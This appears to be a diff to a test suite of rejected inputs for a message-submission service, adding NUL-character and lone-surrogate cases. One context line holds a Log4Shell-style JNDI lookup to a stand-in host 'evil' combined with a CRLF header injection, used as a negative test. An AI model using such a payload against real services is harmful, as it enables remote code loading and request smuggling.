@@ -68,6 +68,10 @@ def bad_messages() -> list[dict]:
          JSON, None, "invalid"),
         ("inject-3", "app.submitted", body("app", township="${jndi:ldap://evil/a}\r\nX-Header: 1"), JSON, None,
          "invalid"),
+        # text no database can hold, where no schema looks: unknown fields' names are recorded
+        ("nul-1", "hotline.submitted", body(suffix="N1", **{"note\u0000": 1}), JSON, None, "invalid"),
+        ("nul-2", "hotline.submitted", body(suffix="N2", extra={"a": "x\u0000y"}), JSON, None, "invalid"),
+        ("surrogate-1", "hotline.submitted", body(suffix="S1")[:-1] + b', "\\ud800": 1}', JSON, None, "invalid"),
         # unknown channels
         ("channel-1", "fax.submitted", body(suffix="F1"), JSON, None, "not_found"),
         ("channel-2", "HOTLINE.submitted", body(suffix="F2"), JSON, None, "not_found"),
